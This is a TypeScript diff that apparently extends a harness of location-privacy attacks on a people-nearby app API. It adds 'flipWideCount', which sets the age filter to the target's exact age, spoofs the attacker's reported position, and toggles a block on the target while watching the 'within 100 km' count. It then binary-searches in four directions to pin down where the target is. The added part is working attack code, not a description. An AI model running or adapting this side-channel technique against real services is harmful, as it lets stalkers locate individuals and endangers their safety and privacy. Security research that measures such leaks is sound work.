@@ -7,6 +7,7 @@ import type { Guess, Row } from "./verdict.ts";
 export const CITY = { latitude: 48.15, longitude: 11.575 };
 /** The precision with which an edge is searched. */
 const STEP_KM = 0.05;
+const WIDE_STEP_KM = 1;
 const DIRECTIONS = [
   [1, 0],
   [-1, 0],
@@ -45,11 +46,12 @@ async function walkToEdges(
   pin: Position,
   reachKm: number,
   isNear: (from: Position) => Promise<boolean>,
+  stepKm = STEP_KM,
 ) {
   const edges: Position[] = [];
   for (const [east, north] of DIRECTIONS) {
     let [inside, outside] = [0, reachKm];
-    while (outside - inside > STEP_KM) {
+    while (outside - inside > stepKm) {
       const middle = (inside + outside) / 2;
       if (await isNear(shifted(pin, east * middle, north * middle))) inside = middle;
       else outside = middle;
@@ -93,6 +95,27 @@ const flipCount: Attack = async (attacker, target) => {
   return guess;
 };
 
+/** A block takes the target alone out of the count, which is told of the attacker's own place: that one walks. */
+const flipWideCount: Attack = async (attacker, target) => {
+  const { id: userId, age } = target.person;
+  const pin = await readPin(attacker, target);
+  await attacker.put("/api/users/me/settings", { minAge: age, maxAge: age });
+  const count = async () =>
+    ((await attacker.get("/api/users/nearby/counts")) as { "100": number })["100"];
+  const isCounted = async (from: Position) => {
+    await attacker.report(from, true);
+    const before = await count();
+    await attacker.post("/api/blocks", { userId });
+    const after = await count();
+    await attacker.remove(`/api/blocks/${userId}`);
+    return after < before;
+  };
+  const guess = await walkToEdges(pin, 130, isCounted, WIDE_STEP_KM);
+  await attacker.report(CITY, true);
+  await attacker.put("/api/users/me/settings", { minAge: 18, maxAge: 99 });
+  return guess;
+};
+
 const READINGS: Record<string, Attack> = {
   "read the pin": readPin,
   "middle of the pin's cell": async (attacker, target) =>
@@ -104,6 +127,7 @@ const WALKS: Record<string, Attack> = {
   "flip the filter at 20 km": flipFilter(20),
   "flip the order": flipOrder,
   "flip the count": flipCount,
+  "flip the count within 100 km by a block": flipWideCount,
 };
 
 async function attackAll(attacker: Person, targets: Target[], attack: Attack) {
